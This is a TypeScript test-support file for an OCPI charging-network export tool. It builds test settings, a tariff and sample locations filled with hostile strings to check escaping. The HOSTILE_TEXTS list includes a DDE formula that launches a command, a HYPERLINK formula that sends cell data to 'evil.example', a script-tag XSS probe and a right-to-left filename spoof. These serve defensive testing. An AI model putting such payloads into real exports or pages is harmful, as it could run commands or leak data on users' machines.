/** Copies of networks that tests make, and networks whose texts are hostile. */

import { type CopiedNetwork, startCopies } from '../../../../packages/copies/copies.ts';
import type { CopiedEvse, CopiedLocation } from '../../../../packages/copies/feeds.ts';
import type { DetailedTariff } from '../../../../src/ocpi/detailed.ts';
import type { ListedFile } from '../../../../src/settings/declared.ts';
import type { Settings } from '../../../../src/settings/settings.ts';
import { completeConnector, completeEvse, completeLocation } from '../../../support/complete-objects.ts';
import { NOW } from '../../../support/data-directory.ts';
import { readSettings, SETTINGS } from '../../../support/network-of.ts';

/** Larger than any file of the tests. */
export const LARGEST = 25 * 1024 * 1024;

/** Of the file with the statuses, in seconds. */
const STATUS_TTL = 60;

export function settingsWith(more: object = {}): Settings {
  const { settings } = readSettings(JSON.stringify({ ...SETTINGS, base_url: 'https://ocpi.example.com', ...more }));
  if (settings === undefined) throw new Error('The settings of the test are not sound.');
  return settings;
}

/** The tariff of the plugs of the tests, which is for everyone. */
export const TARIFFS: ReadonlyMap<string, DetailedTariff> = new Map([
  [
    'T-1',
    {
      country_code: 'NL',
      party_id: 'EXA',
      id: 'T-1',
      currency: 'EUR',
      elements: [
        {
          price_components: [{ type: 'ENERGY', price: 0.2, vat: 21, step_size: 1 }],
          restrictions: { start_time: '22:00', end_time: '06:00' },
        },
        { price_components: [{ type: 'ENERGY', price: 0.5, vat: 21, step_size: 1 }] },
      ],
    },
  ],
]);

interface MadeCopies {
  /** By their paths. */
  readonly files: ReadonlyMap<string, Uint8Array>;
  readonly listed: readonly ListedFile[];
  /** The paths of files that would be too large. */
  readonly missing: readonly string[];
}

/** @param statusTtl null for a network whose file with the statuses is too large */
export function madeCopies(
  locations: Iterable<CopiedLocation>,
  { settings = settingsWith(), largest = LARGEST, tariffs = new Map(), publishedAt = NOW }: Partial<CopiedNetwork> = {},
  statusTtl: number | null = STATUS_TTL,
): MadeCopies {
  const copies = startCopies({ settings, largest, tariffs, publishedAt, statusTtl: statusTtl ?? undefined });
  for (const location of locations) copies.location(location);
  const { files, listed } = copies.end([]);
  const made = files.map(({ path, bytes }) => ({ path, bytes: bytes() }));
  return {
    files: new Map(made.flatMap(({ path, bytes }) => (bytes ? [[path, bytes] as const] : []))),
    listed,
    missing: made.flatMap(({ path, bytes }) => (bytes ? [] : [path])),
  };
}

/** The files by their path. */
export function copiesOf(...made: Parameters<typeof madeCopies>): MadeCopies['files'] {
  return madeCopies(...made).files;
}

/** The text of a file that must be there. */
export function textAt(files: ReadonlyMap<string, Uint8Array>, path: string): string {
  const bytes = files.get(path);
  if (bytes === undefined) throw new Error(`${path} is missing.`);
  return new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes);
}

/** Texts that a program could run, split or misread. */
export const HOSTILE_TEXTS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+31 20 123 45 67',
  '-1+2',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'first line\nsecond, "quoted" line\r\n=3+4',
  'one;=5+6',
  "'=already protected",
  "'s-Hertogenbosch",
  '＝１＋１',
  'Zürich, "P+R" <b>&amp;</b>',
  '<script>alert(1)</script>',
  '\u202egnp.exe',
  '🔌'.repeat(60),
  'x'.repeat(255),
  ' spaces ',
  '00123',
  '-0.12',
] as const;

/** A site per text, which has the text wherever text may stand, two EVSEs, and three plugs. */
export function hostileLocations(): readonly CopiedLocation[] {
  return HOSTILE_TEXTS.map((text, i) => ({
    ...completeLocation(),
    id: `L-${i}`,
    name: text,
    address: text,
    city: text,
    postal_code: text,
    state: text,
    operator: { name: text },
    evses: [hostileEvse(`E-${i}-1`, text, 1), hostileEvse(`E-${i}-2`, text, 2)],
  }));
}

/** How many plugs `hostileLocations` have. */
export const HOSTILE_PLUGS = 3 * HOSTILE_TEXTS.length;

function hostileEvse(uid: string, text: string, plugs: number): CopiedEvse {
  const connectors = Array.from({ length: plugs }, (_, i) => ({ ...completeConnector(), id: String(i + 1) }));
  return { ...completeEvse(), uid, physical_reference: text, floor_level: text, connectors };
}
